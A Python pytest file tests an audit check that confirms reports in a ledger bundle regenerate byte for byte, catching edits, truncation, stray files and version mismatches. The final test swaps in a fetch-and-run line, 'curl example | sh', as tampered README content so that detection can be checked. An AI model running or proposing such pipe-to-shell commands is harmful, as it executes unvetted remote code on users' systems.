"""Check 8: a report is what the records give, to the byte, or it is no report of this run."""

from dataclasses import replace

import pytest

from asp_decide.audit.check import Check
from asp_decide.audit.retelling import Retell
from asp_decide.audit.verification import verify
from asp_decide.ledger.bundle import Bundle
from audit_builders import a_bundle, a_world, with_file

READING = a_world().reading
BOARD = "reports/board.html"


@pytest.fixture(scope="module")
def bundle(tmp_path_factory: pytest.TempPathFactory) -> Bundle:
    made = a_bundle(tmp_path_factory.mktemp("ledger"))
    return with_file(made, BOARD, b"<html>\n220 EUR\n</html>\n")


def _as_it_was(*_: object) -> dict[str, bytes]:
    return {BOARD: b"<html>\n220 EUR\n</html>\n"}


def _told(bundle: Bundle, retell: Retell | None = _as_it_was) -> Check:
    return verify(bundle, READING, retell=retell).checks[7]


def test_a_report_that_follows_from_the_records_passes(bundle: Bundle) -> None:
    assert _told(bundle).line == ("8 told         PASS        1 report made again, byte for byte")


def test_an_edited_report_is_seen_at_its_line(bundle: Bundle) -> None:
    found = _told(with_file(bundle, BOARD, b"<html>\n240 EUR\n</html>\n"))

    assert (found.verdict, found.at) == ("FAIL", f"{BOARD}:2")


def test_a_report_cut_short_is_seen(bundle: Bundle) -> None:
    assert _told(with_file(bundle, BOARD, b"<html>\n220 EUR")).at == f"{BOARD}:3"


def test_a_report_that_nothing_gives_is_seen(bundle: Bundle) -> None:
    found = _told(with_file(bundle, "reports/secret.html", b""))

    assert (found.at, found.told) == ("reports/secret.html", "no record gives this report")


def test_a_bundle_without_reports_is_told_so(bundle: Bundle) -> None:
    bare = {path: body for path, body in bundle.files.items() if path != BOARD}

    assert _told(Bundle(bundle.name, bare)).line == (
        "8 told         NOT CHECKED the bundle has no report"
    )


def test_the_report_of_another_version_is_not_held_against_this_one(bundle: Bundle) -> None:
    found = verify(bundle, replace(READING, version="9.9.9"), retell=_as_it_was).checks[7]

    assert found.verdict == "NOT CHECKED"
    assert found.told.startswith("reports are made again by asp-decide ")


def test_records_that_give_no_report_fail_and_do_not_stop_the_audit(bundle: Bundle) -> None:
    def broken(*_: object) -> dict[str, bytes]:
        raise ValueError("nobody has decided")

    assert _told(bundle, broken).verdict == "FAIL"


def test_an_edited_readme_is_seen(bundle: Bundle) -> None:
    """It says how the folder is checked, and might say it of another program."""
    edited = bundle.files["README.txt"].replace(b"asp-decide verify .", b"curl example | sh")

    found = _told(with_file(bundle, "README.txt", edited))

    assert (found.verdict, found.at) == ("FAIL", "README.txt:3")
